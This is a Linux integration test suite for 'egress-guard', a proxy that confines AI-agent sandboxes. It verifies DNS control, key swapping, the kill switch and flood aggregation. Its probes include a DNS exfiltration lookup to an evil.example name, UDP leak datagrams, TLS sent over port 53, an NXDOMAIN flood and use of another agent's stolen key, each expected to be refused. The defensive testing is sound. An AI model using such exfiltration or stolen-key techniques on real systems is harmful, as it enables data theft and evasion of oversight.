"""The proxy side of `run --isolate`, for real: `egress-guard up` in a subprocess (a process
that held a TUN may crash at exit), real TLS upstreams on loopback, and sandboxes made here
the way `run --isolate` makes them — the TUN `up` hands out over its control socket moved
into a network namespace of the test's own (`ip netns`), the default route into it, IPv6
off, the sandbox's resolv.conf — with curl, Python and the openai SDK inside, as an
unprivileged user. What `up` must guarantee: nothing but egress-guard is reachable, DNS is
answered by it, identity comes from the TUN, and `kill` kills the sandbox's processes."""

from __future__ import annotations

import contextlib
import json
import os
import secrets
import shutil
import socket
import sqlite3
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest
import trustme

from egress_guard import keys
from egress_guard.config import Config

pytestmark = pytest.mark.skipif(
    not sys.platform.startswith("linux")
    or os.geteuid() != 0
    or not os.path.exists("/dev/net/tun")
    or not shutil.which("ip")
    or not shutil.which("setpriv"),
    reason="needs Linux, root, /dev/net/tun, iproute2 and setpriv",
)

EG = [sys.executable, "-m", "egress_guard"]
PY = "/usr/bin/python3"  # readable by the sandbox's unprivileged user (stdlib probes)
SDK_PY = sys.executable  # the venv's Python with the openai SDK; under /root: run as root inside
NOBODY = "65534"
PROXY = "http://198.18.255.254:3128"
AGENTS = ("researcher", "writer", "runner", "late")


def host_address() -> str:
    """An address of this host other than loopback."""
    out = subprocess.run(["ip", "-4", "-o", "addr", "show", "scope", "global"], capture_output=True, text=True)
    for line in out.stdout.splitlines():
        return line.split()[3].split("/")[0]
    return "192.0.2.1"


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@dataclass
class World:
    config: Config
    up: subprocess.Popen[bytes]
    public: Path  # a directory the sandbox's user can read: the CA
    llm_port: int
    web_port: int
    web: Any  # the generic upstream (its state: requests seen)
    bench_port: int  # other.test.local: answers in one write (no Nagle stall of its own)
    listen: int  # up's regular listener

    @property
    def ca(self) -> str:
        return str(self.public / "ca.pem")

    def rows(self, where: str = "1", args: tuple[Any, ...] = (), expect: int = 1, timeout: float = 5) -> list[dict]:
        from support.proxy import audit_rows

        return audit_rows(self.config.audit_path, where, args, expect, timeout)

    def key(self, agent: str, session: str) -> str:
        return keys.mint(self.config, agent, session=session).env["OPENAI_API_KEY"]


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory, test_ca: tuple[trustme.CA, Path]) -> Iterator[World]:
    import yaml
    from support.llm import LLMHandler
    from support.llm.common import REAL_ENV
    from support.llm.openai import SlowStream
    from support.proxy import write_config
    from support.upstream import Upstream

    SlowStream.stop.clear()
    llm, web, bench = Upstream(test_ca[0], LLMHandler), Upstream(test_ca[0]), Upstream(test_ca[0], OneWrite)
    home = tmp_path_factory.mktemp("isolate")
    config = write_config(
        home,
        {
            "allowlists": ["openai"],
            "allow": [
                {"host": "api.openai.com", "ports": [llm.port]},
                {"host": "api.test.local", "ports": [web.port]},
                {"host": "other.test.local", "ports": [bench.port]},
            ],
            "services": ["openai"],
            "agents": {name: {"services": ["openai"]} for name in AGENTS},
            "network": {
                "hosts": {name: ["127.0.0.1"] for name in ("api.openai.com", "api.test.local", "other.test.local")},
                "upstream_ca": str(test_ca[1]),
            },
        },
    )
    assert yaml  # the config helper writes YAML
    public = Path(tempfile.mkdtemp(prefix="eg-isolate-"))
    public.chmod(0o755)
    shutil.copy(config.ca_dir / "egress-guard-ca.pem", public / "ca.pem")
    (public / "ca.pem").chmod(0o644)
    env = {**os.environ, **REAL_ENV}
    log = open(home / "up.log", "wb")  # noqa: SIM115 - closed below
    listen = free_port()
    up = subprocess.Popen(
        [*EG, "up", "--config", str(config.path), "--listen", f"127.0.0.1:{listen}"],
        stdout=log,
        stderr=subprocess.STDOUT,
        env=env,
    )
    sock = config.ca_dir / "control.sock"
    deadline = time.monotonic() + 30
    while not sock.exists() and up.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)
    try:
        assert sock.exists(), (home / "up.log").read_text()
        assert sock.stat().st_mode & 0o777 == 0o600
        w = World(config, up, public, llm.port, web.port, web, bench.port, listen)
        yield w
        left = Box(w, "researcher", "s-left-open")  # `up` stops cleanly with a sandbox still open
    finally:
        up.terminate()
        try:
            code = up.wait(20)
        except subprocess.TimeoutExpired:
            up.kill()
            code = up.wait()
        log.close()
        with contextlib.suppress(NameError):
            left.close()
        SlowStream.stop.set()
        web.state.sse_gate.set()
        llm.close()
        web.close()
        bench.close()
        shutil.rmtree(public, ignore_errors=True)
        output = (home / "up.log").read_text()
        assert code == 0, output  # a clean stop, no exit-time crash (os._exit after a TUN)
        assert "0 lost" in output


class OneWrite(BaseHTTPRequestHandler):
    """Answers every GET in one write: a response in two writes stalls on Nagle and delayed
    ACKs (~40 ms) whatever the proxy does, which would hide what capture costs."""

    protocol_version = "HTTP/1.1"

    def log_message(self, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        body = b'{"ok": true}'
        head = f"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
        self.wfile.write(head.encode() + body)


class Box:
    """A sandbox as `run --isolate` makes it, with `ip netns` instead of its launcher."""

    def __init__(self, world: World, agent: str | None, session: str) -> None:
        self.world = world
        self.session = session
        t0 = time.monotonic()
        self.control = socket.socket(socket.AF_UNIX)
        self.control.connect(str(world.config.ca_dir / "control.sock"))
        self.lines = self.control.makefile("rb")
        self.reply = self.ask({"op": "open", "agent": agent, "session": session})
        assert self.reply["ok"], self.reply
        self.ns = f"egt-{self.reply['sandbox']}"
        self.etc = Path("/etc/netns") / self.ns
        tun, addr = self.reply["tun"], self.reply["addr"]
        subprocess.run(["ip", "netns", "add", self.ns], check=True)
        try:
            self.etc.mkdir(parents=True)
            (self.etc / "resolv.conf").write_text(f"nameserver {self.reply['dns']}\noptions attempts:1 timeout:2\n")
            subprocess.run(["ip", "link", "set", tun, "netns", self.ns], check=True)
            setup = (
                "echo 1 > /proc/sys/net/ipv6/conf/all/disable_ipv6 && "
                "echo 1 > /proc/sys/net/ipv6/conf/default/disable_ipv6 && "
                f"ip link set lo up && ip link set {tun} up && ip addr add {addr}/32 dev {tun} && "
                f"ip route add default dev {tun} src {addr} quickack 1"
            )
            subprocess.run(["ip", "netns", "exec", self.ns, "sh", "-c", setup], check=True)
        except BaseException:
            self.close()
            raise
        self.start_ms = (time.monotonic() - t0) * 1000

    def ask(self, msg: dict[str, Any]) -> dict[str, Any]:
        self.control.sendall(json.dumps(msg).encode() + b"\n")
        return dict(json.loads(self.lines.readline()))

    def argv(self, cmd: list[str], pidns: bool = False, root: bool = False) -> list[str]:
        drop = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--no-new-privs", "--"]
        if root:
            drop = []
        pid = ["unshare", "--pid", "--fork", "--kill-child", "--mount-proc"] if pidns else []
        return ["ip", "netns", "exec", self.ns, *pid, *drop, *cmd]

    def env(self, proxy: bool = False, **extra: str) -> dict[str, str]:
        env = {"PATH": "/usr/bin:/bin", "HOME": "/tmp", "LANG": "C.UTF-8", "SSL_CERT_FILE": self.world.ca, **extra}
        if proxy:
            env.update(HTTPS_PROXY=PROXY, HTTP_PROXY=PROXY, https_proxy=PROXY, http_proxy=PROXY)
        return env

    def run(
        self, cmd: list[str], timeout: float = 30, root: bool = False, **env: Any
    ) -> subprocess.CompletedProcess[str]:
        argv = self.argv(cmd, root=root)
        return subprocess.run(argv, capture_output=True, text=True, timeout=timeout, env=self.env(**env))

    def python(self, script: str, python: str = PY, **env: Any) -> dict[str, Any]:
        out = self.run([python, "-c", script], root=python != PY, **env)
        assert out.returncode == 0, out.stderr
        return dict(json.loads(out.stdout.strip().splitlines()[-1]))

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.control.close()
        subprocess.run(["ip", "netns", "del", self.ns], capture_output=True)
        shutil.rmtree(self.etc, ignore_errors=True)


@pytest.fixture
def box(world: World) -> Iterator[Box]:
    b = Box(world, "researcher", f"s-{secrets.token_hex(4)}")
    yield b
    b.close()


def url(world: World, path: str = "/json", host: str = "api.test.local") -> str:
    return f"https://{host}:{world.web_port if host == 'api.test.local' else world.llm_port}{path}"


PROBE = """
import json, socket, errno
out = {}
def attempt(name, fn):
    try:
        out[name] = fn()
    except OSError as e:
        out[name] = 'error: ' + (errno.errorcode.get(e.errno, '') if e.errno else type(e).__name__)
def tcp(addr, send=b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'):
    s = socket.create_connection(addr, timeout=3)
    s.sendall(send)
    data = s.recv(100)
    return 'answered' if data else 'closed'
def udp(addr):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.sendto(b'leak', addr)
    return 'sent'
def resolve(name):
    return sorted({a[4][0] for a in socket.getaddrinfo(name, 443, type=socket.SOCK_STREAM)})
"""


def test_only_egress_guard_is_reachable_and_dns_is_its_own(world: World, box: Box) -> None:
    target = host_address()
    catcher = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    catcher.bind(("0.0.0.0", 0))
    catcher.settimeout(0.5)
    uport = catcher.getsockname()[1]
    exfil = f"exfil.{secrets.token_hex(6)}.evil.example"
    got = box.python(
        PROBE
        + f"""
attempt('loopback', lambda: tcp(('127.0.0.1', {world.web_port})))
attempt('host', lambda: tcp(('{target}', {world.web_port})))
attempt('hardcoded', lambda: tcp(('1.1.1.1', 443)))
attempt('udp', lambda: udp(('{target}', {uport})))
attempt('v6_loopback', lambda: tcp(('::1', {world.web_port})))
attempt('v6', lambda: tcp(('2001:db8::1', 443)))
attempt('allowed', lambda: resolve('api.test.local'))
attempt('exfil', lambda: resolve('{exfil}'))
print(json.dumps(out))
"""
    )
    with pytest.raises(TimeoutError):
        catcher.recvfrom(100)  # no datagram left the sandbox
    catcher.close()
    assert got["loopback"] == "error: ECONNREFUSED"  # its own loopback, nothing listens
    assert got["host"] in ("closed", "error: ECONNRESET"), got  # captured and refused
    assert got["hardcoded"] in ("closed", "error: ECONNRESET")
    assert got["v6_loopback"].startswith("error:") and got["v6"].startswith("error:")
    assert len(got["allowed"]) == 1 and got["allowed"][0].startswith("198.18.")
    assert got["exfil"].startswith("error:")  # NXDOMAIN: socket.gaierror
    dns = world.rows("host = ? AND scheme = 'dns'", (exfil,))
    assert dns and dns[0]["agent"] == "researcher" and dns[0]["decision"] == "deny", dns
    assert "NXDOMAIN" in dns[0]["reason"] and dns[0]["session"] == box.session
    for ip, port in ((target, world.web_port), ("1.1.1.1", 443)):
        rows = world.rows("host = ? AND port = ? AND kind = 'connect' AND agent = 'researcher'", (ip, port))
        assert rows and "not an address egress-guard's DNS handed out" in rows[-1]["reason"], ip
    udp = world.rows("host = ? AND port = ?", (target, uport))
    assert udp and udp[-1]["agent"] == "researcher" and "UDP" in udp[-1]["reason"]


def test_captured_and_explicit_https_reach_allowed_hosts_and_name_the_agent(world: World, box: Box) -> None:
    for proxy in (False, True):
        marker = f"m{secrets.token_hex(4)}"
        out = box.run(
            ["curl", "-sS", "--noproxy" if not proxy else "--proxy", "*" if not proxy else PROXY,
             "--cacert", world.ca, url(world, f"/json?{marker}")],
            proxy=proxy,
        )  # fmt: skip
        assert out.returncode == 0, out.stderr
        assert json.loads(out.stdout)["host"] == f"api.test.local:{world.web_port}"
        rows = world.rows(
            "host = 'api.test.local' AND kind = 'request' AND decision = 'allow' AND agent = ?",
            ("researcher",),
            expect=1,
        )
        assert rows, f"no allowed row naming the agent (proxy={proxy})"
    # the name must agree with where the captured connection goes: another name's SNI is refused
    other = box.run(
        ["curl", "-sS", "--noproxy", "*", "--cacert", world.ca, "--connect-to", f"other.test.local:{world.web_port}:api.test.local:{world.web_port}",
         f"https://other.test.local:{world.web_port}/json"]
    )  # fmt: skip
    assert '"egress_denied"' in other.stdout or other.returncode != 0


def test_another_agents_key_in_a_sandbox_is_refused_and_flagged(world: World, box: Box) -> None:
    stolen = world.key("writer", "s-writer")
    for proxy in (False, True):
        out = box.run(
            ["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "--cacert", world.ca,
             "-H", f"Authorization: Bearer {stolen}", "-H", "Content-Type: application/json",
             "-d", '{"model":"gpt-4o-mini","messages":[{"role":"user","content":"hi"}]}',
             url(world, "/v1/chat/completions", host="api.openai.com")],
            proxy=proxy,
        )  # fmt: skip
        assert out.stdout == "403", out.stderr
    rows = world.rows("credential = 'denied-agent-not-permitted'", expect=2)
    assert len(rows) >= 2 and all(r["agent"] == "researcher" for r in rows), rows
    assert all("flagged" in r["reason"] and "'writer'" in r["reason"] for r in rows)


SDK = """
import json, os, ssl, httpx, openai
client = openai.OpenAI(api_key=os.environ['OPENAI_API_KEY'], base_url='https://api.openai.com:{port}/v1', max_retries=0,
                       http_client=httpx.Client(verify=ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE'])))
r = client.chat.completions.create(model='gpt-4o-mini', messages=[{{'role': 'user', 'content': 'hi'}}])
print(json.dumps({{'id': r.id, 'content': r.choices[0].message.content}}))
"""


def test_the_openai_sdk_works_with_and_without_proxy_variables_and_is_priced(world: World, box: Box) -> None:
    session = box.session
    key = world.key("researcher", session)
    for proxy in (True, False):
        got = box.python(SDK.format(port=world.llm_port), python=SDK_PY, proxy=proxy, OPENAI_API_KEY=key)
        assert got["content"]
    rows = world.rows("host = 'api.openai.com' AND cost_usd IS NOT NULL AND session = ?", (session,), expect=2)
    assert len(rows) == 2 and {r["agent"] for r in rows} == {"researcher"}
    assert all(r["credential"] == "swapped" for r in rows)


def test_kill_the_agent_kills_its_sandbox_within_a_second(world: World) -> None:
    b = Box(world, "runner", f"s-{secrets.token_hex(4)}")
    try:
        seen = len(world.web.state.requests)
        proc = subprocess.Popen(
            b.argv(["sh", "-c", f"curl -sN --noproxy '*' --cacert {world.ca} {url(world, '/sse?n=50')}; sleep 60"], pidns=True),
            env=b.env(),
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )  # fmt: skip
        deadline = time.monotonic() + 10
        while len(world.web.state.requests) == seen and time.monotonic() < deadline:
            time.sleep(0.02)
        assert len(world.web.state.requests) > seen, "the stream never started"
        init = pid1(proc.pid)
        pidns = os.stat(f"/proc/{init}/ns/pid").st_ino
        assert b.ask({"op": "started", "pid": init, "pidns": pidns}) == {"ok": True}
        t0 = time.monotonic()
        subprocess.run(
            [*EG, "kill", "--config", str(world.config.path), "--agent", "runner"], check=True, capture_output=True
        )
        t_cli = time.monotonic()
        while os.path.exists(f"/proc/{init}") and time.monotonic() - t0 < 5:
            time.sleep(0.005)
        gone = time.monotonic()
        assert not os.path.exists(f"/proc/{init}")
        print(
            f"kill latency: {(gone - t0) * 1000:.0f} ms from `kill` start ({(gone - t_cli) * 1000:.0f} ms after it returned)"
        )
        assert gone - t_cli < 1.0
        rows = world.rows("agent = 'runner' AND reason LIKE 'kill: sandbox%'")
        assert rows and "SIGKILLed" in rows[0]["reason"], rows
        conn = sqlite3.connect(world.config.audit_path)
        (revoked,) = conn.execute("SELECT ts FROM revocations WHERE agent = 'runner'").fetchone()
        conn.close()
        lag = datetime.fromisoformat(rows[0]["ts"]) - datetime.fromisoformat(revoked)
        print(f"kill: revocation written -> sandbox SIGKILLed: {lag.total_seconds() * 1000:.0f} ms")
        assert lag.total_seconds() < 1.0
        proc.wait(5)
    finally:
        b.close()


def test_a_kill_between_open_and_started_holds(world: World) -> None:
    """A kill that lands before the sandbox reports its PID 1 kills it when it does, and the
    killed sandbox's network stays cut."""
    b = Box(world, "late", f"s-{secrets.token_hex(4)}")
    proc = None
    try:
        subprocess.run(
            [*EG, "kill", "--config", str(world.config.path), "--agent", "late"], check=True, capture_output=True
        )
        world.rows("agent = 'late' AND reason LIKE 'kill: sandbox%'")  # the kill switch saw it
        proc = subprocess.Popen(b.argv(["sleep", "60"], pidns=True), env=b.env())
        init = pid1(proc.pid)
        got = b.ask({"op": "started", "pid": init, "pidns": os.stat(f"/proc/{init}/ns/pid").st_ino})
        assert not got["ok"] and "killed" in got["error"], got
        deadline = time.monotonic() + 5
        while os.path.exists(f"/proc/{init}") and time.monotonic() < deadline:
            time.sleep(0.01)
        assert not os.path.exists(f"/proc/{init}")
        out = b.run(["curl", "-sS", "-m", "5", "-o", "/dev/null", "--noproxy", "*", "--cacert", world.ca, url(world)])
        assert out.returncode != 0, out
        rows = world.rows("agent = 'late' AND reason LIKE 'kill: sandbox%SIGKILLed%'")
        assert rows, rows
    finally:
        if proc is not None:
            proc.kill()
            proc.wait()
        b.close()


def test_port_53_speaks_only_dns(world: World, box: Box) -> None:
    """A sandbox's TCP to any address on port 53 is DNS, answered by egress-guard: TLS or HTTP
    there never reaches an upstream."""
    target = host_address()
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind((target, 53))  # were port 53 anything but DNS, egress-guard would dial here
    listener.listen(8)
    listener.settimeout(0.5)
    got = box.python(
        PROBE
        + f"""
import ssl
def tls53(ip, host):
    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    s = c.wrap_socket(socket.create_connection((ip, 53), timeout=3), server_hostname=host)
    s.sendall(('GET /json HTTP/1.1\\r\\nHost: ' + host + '\\r\\n\\r\\n').encode())
    return s.recv(300).decode(errors='replace')[:200]
attempt('tls53', lambda: tls53('{target}', 'api.test.local:{world.web_port}'))
attempt('plain53', lambda: tcp(('{target}', 53)))
print(json.dumps(out))
"""
    )
    try:
        dialled = listener.accept()[0]
        dialled.close()
    except TimeoutError:
        dialled = None
    finally:
        listener.close()
    print(got)
    assert dialled is None, got
    assert "HTTP/1.1" not in str(got.get("tls53")) and got.get("plain53") != "answered", got


FLOOD_DNS = """
import socket, struct, os, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setblocking(False)
n = 0
while n < 2000:
    q = struct.pack('!HHHHHH', n, 0x100, 1, 0, 0, 0) + bytes([40]) + os.urandom(20).hex().encode()
    try:
        s.sendto(q + b'\\x04evil\\x07example\\x00\\x00\\x01\\x00\\x01', ('198.18.0.53', 53))
        n += 1
    except BlockingIOError:
        time.sleep(0.0005)
print(n)
"""


def test_a_refusal_flood_writes_few_rows_and_another_sandbox_still_resolves(world: World) -> None:
    flood = Box(world, "researcher", f"s-{secrets.token_hex(4)}")
    other = Box(world, "writer", f"s-{secrets.token_hex(4)}")
    try:
        t0 = time.monotonic()
        out = flood.run([PY, "-c", FLOOD_DNS], timeout=60)
        assert out.stdout.strip() == "2000", out
        got = other.python(PROBE + "attempt('name', lambda: resolve('api.test.local'))\nprint(json.dumps(out))")
        assert str(got["name"][0]).startswith("198.18."), got
        assert (
            other.run(
                ["curl", "-sS", "-m", "10", "-o", "/dev/null", "--noproxy", "*", "--cacert", world.ca, url(world)]
            ).returncode
            == 0
        )
        rows = world.rows("reason LIKE '%more refusals from sandbox%' AND session = ?", (flood.session,), timeout=5)
        time.sleep(1.5)  # the last aggregated row
        rows = world.rows("session = ?", (flood.session,), expect=0, timeout=0)
        named = [r for r in rows if r["scheme"] == "dns"]
        summed = sum(int(r["reason"].split()[0]) for r in rows if "more refusals" in r["reason"])
        print(
            f"2000 NXDOMAIN queries in {time.monotonic() - t0:.1f} s: {len(named)} rows one by one, {len(rows) - len(named)} aggregated ({summed})"
        )
        assert len(named) < 600 and len(named) + summed <= 2000 and summed > 0
    finally:
        flood.close()
        other.close()


def pid1(unshare_pid: int) -> int:
    """The host PID of the sandbox's PID 1: the child `unshare --fork` started."""
    deadline = time.monotonic() + 5
    path = f"/proc/{unshare_pid}/task/{unshare_pid}/children"
    while time.monotonic() < deadline:
        # ip netns exec execs unshare, which forks PID 1
        with contextlib.suppress(OSError):
            kids = Path(path).read_text().split()
            if kids:
                return int(kids[0])
        time.sleep(0.01)
    raise AssertionError("no PID 1")


def test_an_unknown_agent_gets_no_sandbox(world: World) -> None:
    s = socket.socket(socket.AF_UNIX)
    s.connect(str(world.config.ca_dir / "control.sock"))
    s.sendall(b'{"op": "open", "agent": "nobody-here", "session": "x"}\n')
    answer = json.loads(s.makefile("rb").readline())
    s.close()
    assert answer["ok"] is False and "unknown agent" in answer["error"]


KEPT_ALIVE = """
import http.client, json, ssl
ctx = ssl.create_default_context(cafile={ca!r})
def run(conn, n=20):
    statuses = []
    for i in range(n):
        conn.request('GET', '/bench', headers={{'Host': 'other.test.local:{port}'}})
        r = conn.getresponse()
        r.read()
        statuses.append(r.status)
        if i == 0:
            sock = conn.sock
    return {{'statuses': statuses, 'one_connection': conn.sock is sock}}
out = {{}}
if {proxy!r}:
    regular = http.client.HTTPSConnection('127.0.0.1', {proxy!r}, context=ctx)
    regular.set_tunnel('other.test.local', {port})
    out['regular'] = run(regular)
else:
    captured = http.client.HTTPSConnection('other.test.local', {port}, context=ctx)
    explicit = http.client.HTTPSConnection('198.18.255.254', 3128, context=ctx)
    explicit.set_tunnel('other.test.local', {port})
    out.update(captured=run(captured), explicit=run(explicit))
print(json.dumps(out))
"""


def test_captured_and_explicit_requests_keep_alive_and_the_route_acks_at_once(world: World, box: Box) -> None:
    """Functional only: what capture costs is measured by bench/isolate.py, never here."""
    route = subprocess.run(
        ["ip", "netns", "exec", box.ns, "ip", "route", "show", "default"], capture_output=True, text=True
    )
    assert "quickack 1" in route.stdout, route  # no ~40 ms delayed-ACK stall per kept-alive request
    got = box.python(KEPT_ALIVE.format(ca=world.ca, port=world.bench_port, proxy=None))
    script = KEPT_ALIVE.format(ca=world.ca, port=world.bench_port, proxy=world.listen)
    out = subprocess.run([PY, "-c", script], capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    got.update(json.loads(out.stdout))
    for path in ("captured", "explicit", "regular"):
        assert got[path] == {"statuses": [200] * 20, "one_connection": True}, (path, got[path])


SDK_RUN = """
import json, os, ssl, sys
sys.path.insert(0, sys.argv[3])
import openai
proxy = sys.argv[2] == 'proxy'
if not proxy:
    for name in ('HTTPS_PROXY', 'HTTP_PROXY', 'https_proxy', 'http_proxy', 'ALL_PROXY', 'all_proxy'):
        os.environ.pop(name, None)
http = openai.DefaultHttpxClient(verify=ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE']))
client = openai.OpenAI(base_url='https://api.openai.com:' + sys.argv[1] + '/v1', max_retries=0, http_client=http)
r = client.chat.completions.create(model='gpt-4o-mini', messages=[{'role': 'user', 'content': 'hi'}])
print(json.dumps({'proxy': proxy, 'content': r.choices[0].message.content, 'via': os.environ.get('HTTPS_PROXY')}))
"""
CACHE = Path(os.environ.get("EGRESS_GUARD_TEST_CACHE_SHARED") or "/var/cache/egress-guard-tests")


@pytest.fixture(scope="module")
def agent_site() -> Path:
    """The openai SDK (the venv's version) for the system Python, which the sandbox's user can
    run (the venv's Python lives under /root), installed once where that user can read it."""
    import openai

    version = openai.__version__
    tag = subprocess.run([PY, "-c", "import sys; print(f'cp{sys.version_info[0]}{sys.version_info[1]}')"],
                         capture_output=True, text=True).stdout.strip()  # fmt: skip
    site = CACHE / f"agent-site-openai-{version}-{tag}-x86_64"
    if not (site / "openai").is_dir():
        CACHE.mkdir(parents=True, exist_ok=True)
        out = subprocess.run(
            [
                PY,
                "-m",
                "pip",
                "install",
                "-q",
                "--disable-pip-version-check",
                "--target",
                str(site),
                f"openai=={version}",
            ],
            capture_output=True,
            text=True,
            timeout=300,
        )
        if out.returncode != 0:
            shutil.rmtree(site, ignore_errors=True)
            pytest.skip(f"SKIPPED: pip could not install openai=={version} for {PY}: {out.stderr[-600:]}")
    os.chmod(CACHE, 0o755)
    return site


def test_run_isolate_python_openai_sdk_with_and_without_proxy_variables_is_priced(
    world: World, agent_site: Path
) -> None:
    """Through the launcher (`run --isolate`, as nobody): the SDK reaches the provider through
    the proxy variables and, with them removed, through capture; both calls priced."""
    argv = [*EG, "run", "--isolate", "--config", str(world.config.path), "--agent", "researcher"]
    priced = "host = 'api.openai.com' AND cost_usd IS NOT NULL AND agent = 'researcher'"
    before = len(world.rows(priced, expect=0))
    for mode in ("proxy", "captured"):
        t0 = time.monotonic()
        out = subprocess.run(
            [*argv, "--", PY, "-c", SDK_RUN, str(world.llm_port), mode, str(agent_site)],
            capture_output=True,
            text=True,
            timeout=60,
            env={**os.environ, "PATH": "/usr/bin:/bin:/usr/sbin:/sbin"},
        )
        assert out.returncode == 0, out.stderr
        got = json.loads(out.stdout.strip().splitlines()[-1])
        assert got["content"] and got["proxy"] == (mode == "proxy") and (got["via"] is None) == (mode != "proxy")
        print(f"run --isolate python openai SDK ({mode}): {(time.monotonic() - t0) * 1000:.0f} ms end to end")
    rows = world.rows(priced, expect=before + 2)[before:]
    assert len(rows) == 2 and all(r["session"] and r["credential"] == "swapped" for r in rows), rows
